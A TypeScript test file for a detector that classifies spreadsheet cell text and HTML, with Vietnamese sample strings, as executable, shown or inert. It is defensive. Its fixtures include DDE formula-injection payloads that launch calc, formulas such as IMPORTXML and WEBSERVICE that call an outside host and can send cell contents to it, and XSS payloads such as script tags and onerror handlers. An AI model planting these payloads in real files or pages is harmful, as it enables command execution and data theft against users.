/** Text that would be run as a formula or as mark-up, and text that only looks a little like it. */
import { commandKind, markupKind } from "../../../src/core/text/command-text";

it.each([
  "=cmd|' /C calc'!A0",
  "+cmd|' /C notepad'!A1",
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '=HYPERLINK("http://x.vn","Bấm vào đây")',
  '=IMPORTXML(CONCAT("http://x.vn",A1),"//a")',
  '=WEBSERVICE("https://x.vn")',
  "='[Bao cao Q3.xlsx]Biểu 1'!$I$20",
  "=\\\\may-chu\\chung\\a.xlsx",
])("%p runs", (text) => {
  expect(commandKind(text)).toBe("runs");
});

it.each(["= cột(3)x0%", "=A1+B1", "= 100% so với kế hoạch", "@SUM(A1)", "+SUM(A1:A3)", "-LEN(A1)"])(
  "%p is shown as text",
  (text) => {
    expect(commandKind(text)).toBe("shown");
  },
);

it.each([
  "-",
  "–",
  "- 02 chi đoàn mới (xã Đại An)",
  "-Tổ chức (02 lớp)",
  "+ Đ/c Nguyễn Văn A",
  "+84 912 345 678",
  "-5",
  "@tinhdoantravinh",
  "Xem https://tinhdoan.vn",
  "a|b!c",
  "",
])("%p does nothing", (text) => {
  expect(commandKind(text)).toBeUndefined();
});

it.each([
  ["<script>alert('doan')</script>", "runs"],
  ["<img src=x onerror=alert(1)>", "runs"],
  ["<a href='javascript:alert(1)'>Đoàn</a>", "runs"],
  ["<IFRAME SRC=x>", "runs"],
  ["<b>Đoàn xã</b>", "shown"],
  ["Đoàn xã<br/>Ia Grai", "shown"],
  ["<5 tuổi", undefined],
  ["tuổi < 30, điểm > 5", undefined],
  ["<Tên đơn vị>", undefined],
  ["a<b>c", "shown"],
  ["<30>", undefined],
] as const)("mark-up in %p: %p", (text, kind) => {
  expect(markupKind(text)).toBe(kind);
});
